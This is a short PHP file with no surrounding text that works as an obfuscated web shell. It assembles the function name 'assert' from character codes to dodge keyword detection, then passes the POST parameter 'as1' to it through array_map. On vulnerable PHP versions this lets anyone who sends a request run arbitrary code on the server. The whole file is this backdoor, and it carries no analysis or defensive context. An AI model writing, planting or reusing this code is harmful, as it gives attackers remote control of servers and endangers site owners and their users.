<?php
$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);
array_map($f, array($_POST['as1']));
